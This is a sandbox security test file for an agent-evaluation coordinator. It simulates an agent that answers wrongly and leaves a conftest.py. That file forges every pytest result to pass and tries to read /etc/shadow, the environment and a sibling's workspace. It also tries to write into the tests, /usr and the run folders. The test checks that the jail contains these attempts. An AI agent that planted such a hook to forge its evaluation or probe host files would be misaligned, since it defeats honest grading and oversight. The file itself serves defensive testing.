"""A host-side command evaluator never runs the agent's files with the coordinator's
privileges (issue 36, finding 3).

The task's evaluator runs pytest on the agent's workspace (its tests copied in, as many
do). The agent answers wrong (honest score 0.0) and leaves a conftest.py that pytest loads:
it forges every test to pass, and tries what code running as the coordinator could: write
into the saved workspace, the task's tests, /usr and the run's folders, read /etc/shadow, the
coordinator's environment and a sibling's workspace. It reports what it saw through the
evaluator's ref. What holds (evaluator.py's docstring): none of that reaches the host, and an
evaluator that keeps the agent's files out of its own process keeps its honest 0.0; one that
loads the agent's conftest.py still gets the forged 1.0: no sandbox can stop that.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import sys
import textwrap
from pathlib import Path

import pytest

from gyre.coordinator.sandbox.process import ProcessBackend
from gyre.coordinator.tasks import Task
from tests.sandbox.conftest import run_task, scripted_proxy, shell_preset

__all__ = ["scripted_proxy"]  # a fixture, used by name
pytestmark = pytest.mark.sandbox

TEST_ANSWER = ("from pathlib import Path\n\n\ndef test_answer():\n"
               "    assert Path('answer.txt').read_text().strip() == '42'\n")
# The task author's evaluator. `loads`: pytest run on the tests copied into the workspace, so
# the workspace's conftest.py is loaded; `keeps-out`: isolated Python, pytest rooted at its own
# tests, the workspace only the working folder the test reads answer.txt from.
SCORE = textwrap.dedent('''\
    import json, os, shutil, subprocess, sys
    mode, tests = sys.argv[1], sys.argv[2]
    if mode == "loads":
        shutil.copy(tests, "test_answer.py")
        argv = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_answer.py"]
    else:
        here = os.path.dirname(tests)
        argv = [sys.executable, "-I", "-m", "pytest", "-q", "-p", "no:cacheprovider", f"--rootdir={here}",
                f"--confcutdir={here}", tests]
    rc = subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode
    seen = open("seen.json").read() if os.path.exists("seen.json") else "{}"
    print(json.dumps({"score": 1.0 if rc == 0 else 0.0, "ref": seen}))
''')
# The agent's conftest.py: forge, then probe. {targets} and {reads} are filled in below.
CONFTEST = textwrap.dedent('''\
    import json, os
    import pytest

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        outcome.get_result().outcome = "passed"

    def attempt(fn):
        try:
            return fn()
        except Exception as e:
            return type(e).__name__

    def write(path):
        with open(path, "w") as f:
            f.write("written by the agent's conftest.py")
        return "written"

    seen = {{"uid": os.getuid(), "env": dict(os.environ), "wrote": {{}}, "read": {{}}}}
    for line in open("/proc/self/status"):
        if line.startswith(("CapEff", "CapPrm", "CapBnd")):
            seen[line.split(":")[0]] = line.split()[1]
    for target in {targets!r}:
        seen["wrote"][target] = attempt(lambda: write(target))
    for target in {reads!r}:
        seen["read"][target] = attempt(lambda: open(target).read() and "read")
    json.dump(seen, open("seen.json", "w"))
''')


def _jail_ready() -> None:
    if os.geteuid() != 0:
        pytest.skip("the jail for host evaluators is root's (a user's evaluator runs as that user)")
    for tool, package in (("bwrap", "bubblewrap"), ("setpriv", "util-linux")):
        if shutil.which(tool) is None:
            pytest.skip(f"`{tool}` is not installed (apt-get install -y {package})")


async def _attack(proxy, tmp_path: Path, mode: str):
    """One execution whose agent answers 41 and leaves the conftest.py; returns (run, the
    paths it tried to write, its saved workspace)."""
    mark = f"pwned-{secrets.token_hex(4)}"
    run_dir, tests = tmp_path / "run", tmp_path / "task-tests"
    tests.mkdir()
    (tests / "test_answer.py").write_text(TEST_ANSWER)
    (tmp_path / "score.py").write_text(SCORE)
    sibling = run_dir / "executions" / "e0" / "workspace" / "answer.txt"
    sibling.parent.mkdir(parents=True)
    sibling.write_text("42")
    saved = run_dir / "executions" / "e1" / "workspace"
    targets = [str(saved / mark), str(tests / mark), f"/usr/{mark}", str(run_dir / mark), str(tmp_path / mark)]
    conftest = CONFTEST.format(targets=targets, reads=["/etc/shadow", str(sibling)])
    harness = f"echo 41 > answer.txt\ncat > conftest.py <<'PY'\n{conftest}PY\n"
    task = Task(id="conftest", prompt="p", evaluator={
        "type": "command", "argv": [sys.executable, str(tmp_path / "score.py"), mode, str(tests / "test_answer.py")]})
    run = await run_task(proxy, ProcessBackend(), task, run_dir, shell_preset(harness))
    assert run.status == "completed", (run.status, run.ref)
    return run, targets, saved


async def test_an_agents_conftest_runs_as_no_one_and_writes_only_its_copy(scripted_proxy, tmp_path, monkeypatch):
    _jail_ready()
    secret = secrets.token_hex(16)
    monkeypatch.setenv("PLANTED_SECRET", secret)
    run, targets, saved = await _attack(scripted_proxy, tmp_path, "loads")
    seen = json.loads(run.ref)
    # The agent's code ran (it reported), but as no one: not root, no capability.
    assert seen["uid"] != 0 and (seen["CapEff"], seen["CapPrm"], seen["CapBnd"]) == ("0" * 16,) * 3, seen
    # Nothing outside its copy was written: the saved workspace, the tests, the system, the run.
    assert [t for t in targets if Path(t).exists()] == []
    assert seen["wrote"][targets[0]] == "written"  # ... it wrote its own copy, mounted where the workspace is
    assert sorted(os.listdir(saved)) == ["answer.txt", "conftest.py", "task.txt"]
    assert set(seen["read"].values()) <= {"PermissionError", "FileNotFoundError"}, seen["read"]
    assert secret not in json.dumps(seen["env"]), seen["env"]
    # The forged score stands: this evaluator put its result in the agent's code (evaluator.py says so).
    assert run.reward == 1.0


async def test_an_evaluator_that_keeps_the_agents_files_out_keeps_its_honest_score(scripted_proxy, tmp_path):
    _jail_ready()
    run, targets, saved = await _attack(scripted_proxy, tmp_path, "keeps-out")
    assert (run.reward, run.ref) == (0.0, "{}")  # the conftest.py never ran; 41 is wrong
    assert [t for t in targets if Path(t).exists()] == []
